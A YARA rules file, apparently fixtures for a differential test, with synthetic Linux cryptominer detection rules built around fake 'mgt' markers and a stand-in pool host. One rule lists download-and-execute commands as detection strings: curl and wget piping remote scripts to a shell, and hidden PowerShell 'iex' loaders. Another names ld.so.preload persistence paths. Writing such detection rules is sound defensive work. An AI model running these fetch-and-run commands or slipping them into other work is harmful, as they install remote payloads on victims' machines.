/* Cryptominer rules for the differential test (tests/yara_diff.py): our own,
 * shaped like the public Linux sets (text and hex about evenly, fullword
 * common, some nocase/wide, xor/base64, hex with ?? and jumps). */

rule Linux_Miner_Stratum : miner
{
    meta:
        description = "stratum pool URL of a miner config"
        severity = 70
    strings:
        $s1 = "stratum+tcp://mgt-pool.example" nocase
        $s2 = "stratum+ssl://mgt-pool.example" nocase
        $s3 = "--donate-level=0" fullword
        $h1 = { 22 61 6c 67 6f 22 3a 20 22 72 78 2f 30 22 }
    condition:
        any of ($s1, $s2) and ($s3 or $h1)
}

rule Linux_Miner_XmrigStrings : miner
{
    strings:
        $a1 = "XMRig-MGT/6.19" ascii wide
        $a2 = "randomx_mgt_init_dataset" fullword
        $a3 = "cryptonight-mgt/r" fullword
        $h1 = { 48 8b ?? 24 ?? 4d 47 54 [2-6] 0f 05 }
        $h2 = { 4d 47 54 5f 52 58 ( 30 | 31 ) ?? 00 }
    condition:
        2 of them
}

rule Linux_Miner_Config
{
    strings:
        $c1 = "\"donate-mgt-level\":" fullword
        $c2 = "\"cpu-mgt-priority\"" fullword
        $c3 = "mgt_huge_pages_jit" nocase
        $h1 = { 7b 0a 20 20 22 61 75 74 6f 73 61 76 65 ?? 3a }
    condition:
        #c1 >= 1 and (#c2 + #c3 >= 1 or $h1)
}

rule Linux_Miner_Kinsing_Like : miner backdoor
{
    strings:
        $k1 = "/tmp/.mgt-kdevtmpfsi" fullword
        $k2 = "mgt-kinsing-loader" xor(1-8)
        $k3 = { 2f 65 74 63 2f 6c 64 2e 73 6f 2e 70 72 65 6c 6f 61 64 [0-8] 2f 6d 67 74 }
    condition:
        any of them
}

rule Linux_Miner_B64_Cmd
{
    strings:
        $b1 = "curl -s http://mgt-pool.example/x.sh|sh" base64
        $b2 = "wget -q -O- mgt-pool.example/y.sh" base64wide
        $b3 = "powershell -nop -w hidden mgt" base64 wide
        $b4 = "iex(new-object net.webclient) mgt" base64 base64wide ascii wide
    condition:
        any of them
}

rule Linux_Miner_Counted
{
    strings:
        $w = "mgt-worker-id=" fullword
    condition:
        #w > 1 and @w[2] > @w[1]
}

private rule Miner_Pool_Private
{
    strings:
        $p = "mgt-pool.example:3333" nocase
    condition:
        $p
}

rule Linux_Miner_Ref
{
    strings:
        $r = "mgt-threads=" fullword
    condition:
        Miner_Pool_Private and $r
}
